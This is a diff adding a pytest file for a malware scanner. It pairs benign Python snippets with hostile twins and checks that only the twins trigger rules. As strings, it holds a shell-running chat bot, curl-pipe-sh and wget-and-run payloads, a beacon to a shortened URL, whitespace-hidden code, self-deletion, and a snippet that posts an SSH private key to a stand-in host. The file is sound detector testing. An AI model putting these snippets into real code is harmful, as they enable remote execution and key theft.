@@ -1,0 +1,96 @@
+"""Honest Python that has the words of an attack: each beside the attack that it must not hide."""
+
+import pytest
+
+from core.findings import Level
+from tests.core.scanning.examining import levels, look_at
+
+CLICK = """
+import click, subprocess
+@click.group()
+def cli(): pass
+@cli.command()
+@click.argument('rest', nargs=-1)
+def run(rest): subprocess.run(list(rest), check=True)
+"""
+BOT = """
+import subprocess
+from discord.ext import commands
+bot = commands.Bot('!')
+@bot.command()
+async def run(ctx, *, rest): subprocess.run(rest, shell=True)
+"""
+TOLD = """
+import subprocess
+def start(program):
+    try:
+        return subprocess.Popen([program])
+    except FileNotFoundError as problem:
+        how = ('Install the runtime:\\n'
+               '> curl -fsSL https://runtime.example/install.sh | sh\\n')
+        raise RuntimeError(how) from problem
+"""
+DONE = """
+import subprocess
+def start(program):
+    subprocess.Popen([program])
+    how = ['curl -fsSL https://runtime.example/install.sh | sh']
+    subprocess.run(how, shell=True)
+"""
+UNPACKED = """
+import subprocess, wget
+subprocess.check_call(['tar', 'xf', wget.download('https://data.example/talks.tar')])
+"""
+STARTED = """
+import subprocess, wget
+subprocess.check_call(['sh', wget.download('https://data.example/talks.sh')])
+"""
+BADGE = """
+import subprocess, gradio as gr
+subprocess.call(['ffmpeg', '-version'])
+gr.Markdown('<a href="https://huggingface.co/spaces/x"><img src="https://bit.ly/3gLdBN6" alt="Duplicate"></a>')
+"""
+BEACON = """
+import subprocess, os
+subprocess.call(['ffmpeg', '-version'])
+os.system('curl https://bit.ly/3gLdBN6')
+"""
+WIDE_TABLE = 'class Ant:\n    """\n    | name {0} | type {0} | meaning of it |\n    """\n    legs = 4\n'.format(
+    " " * 90
+)
+FAR_RIGHT = "legs = 4{};import os\n".format(" " * 140)
+OWN_FOLDER = """
+from pathlib import Path
+import subprocess
+data = {}
+data['root'] = Path(__file__).resolve()
+subprocess.run(['git', 'tag'])
+Path(data.get('archive')).unlink()
+"""
+OWN_FILE = """
+from pathlib import Path
+import subprocess
+subprocess.run(['git', 'tag'])
+Path(__file__).resolve().unlink()
+"""
+SSH_HELP = "examples = ['host ssh <job> -i ~/.ssh/id_ed25519']\nimport requests\nrequests.get('https://a.example')\n"
+SSH_READ = "key = open('/home/me/.ssh/id_ed25519').read()\nimport requests\nrequests.post('https://a.example', key)\n"
+
+
+@pytest.mark.parametrize(
+    ("honest", "attack", "rule"),
+    [
+        (CLICK, BOT, "code-reverse-shell"),
+        (TOLD, DONE, "code-download-and-run"),
+        (UNPACKED, STARTED, "code-download-and-run"),
+        (BADGE, BEACON, "code-odd-address"),
+        (WIDE_TABLE, FAR_RIGHT, "code-far-right"),
+        (OWN_FOLDER, OWN_FILE, "code-self-delete"),
+        (SSH_HELP, SSH_READ, "code-secrets"),
+    ],
+)
+def test_the_honest_twin_is_left_alone(honest: str, attack: str, rule: str) -> None:
+    seen = levels(look_at("tool.py", honest))
+    assert rule not in seen
+    assert Level.HIGH not in seen.values()
+    assert rule in levels(look_at("tool.py", attack))
